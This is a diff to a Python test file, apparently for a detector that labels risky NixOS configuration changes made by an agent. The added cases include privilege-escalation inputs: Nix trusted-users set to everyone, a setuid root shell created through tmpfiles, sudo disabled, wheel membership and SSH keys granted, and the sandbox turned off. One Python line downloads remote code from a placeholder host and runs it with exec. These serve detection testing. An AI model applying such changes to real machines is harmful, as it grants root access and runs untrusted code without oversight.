@@ -237,7 +237,10 @@ SPELLINGS = (
         },
     ),
     Case("specialisation", agent("specialisation.x.configuration.security.sudo.enable = true;«become-root»")),
-    Case("passed to a function that is not known", agent("security = lib.id { sudo.enable = false; };«become-root»")),
+    Case(
+        "passed to a function that is not known",
+        agent("security = lib.id { sudo.enable = false; };«become-root, unknown-set»"),
+    ),
 )
 
 OBJECTS = (
@@ -438,4 +441,40 @@ HIGH = (
     ),
 )
 
-CHANGES = (*SPELLINGS, *OBJECTS, *HIGH)
+MORE = (
+    Case("nix.conf by etc", agent('environment.etc."nix/nix.conf".text = "trusted-users = *";«nix-trust»')),
+    Case(
+        "users by mapAttrs",
+        agent(
+            'users.users = lib.mapAttrs (name: key: { openssh.authorizedKeys.keys = [ key ]; }) { bob = "ssh-ed25519 A"; };«user-keys»'
+        ),
+    ),
+    Case(
+        "users by genAttrs",
+        agent('users.users = lib.genAttrs [ "bob" ] (name: { extraGroups = [ "wheel" ]; });«privileged-group»'),
+    ),
+    Case(
+        "a set from a file, by name",
+        {
+            **new_file(),
+            "extra.nix": "let z = import ./z.nix; in\n{\n  nix.settings = z.settings;\n}\n",
+            "z.nix": "{\n  settings.sandbox = false;\n}\n",
+        },
+        elsewhere=frozenset({("nix-trust", "extra.nix")}),
+    ),
+    Case("a whole set that is not known", agent("nix.settings = config.my.nix;«unknown-set»")),
+    Case("setuid by tmpfiles", agent('systemd.tmpfiles.rules = [ "f /state/sh 4755 root root -" ];«setuid-file»')),
+    Case("a module switched off", agent('disabledModules = [ "security/sudo.nix" ];«disabled-module»')),
+    Case(
+        "other packages for all",
+        agent("_module.args.pkgs = import <nixpkgs> { };«package-override, import-from-derivation»"),
+    ),
+    Case("primary group", agent('users.users.bob.group = "docker";«privileged-primary-group»')),
+    Case("hooks of git", agent('programs.git.config.core.hooksPath = "/state/hooks";«preload»')),
+    Case(
+        "code from the network",
+        {"run.py": 'import urllib.request\nexec(urllib.request.urlopen("https://x").read())«run-downloaded»\n'},
+    ),
+)
+
+CHANGES = (*SPELLINGS, *OBJECTS, *HIGH, *MORE)
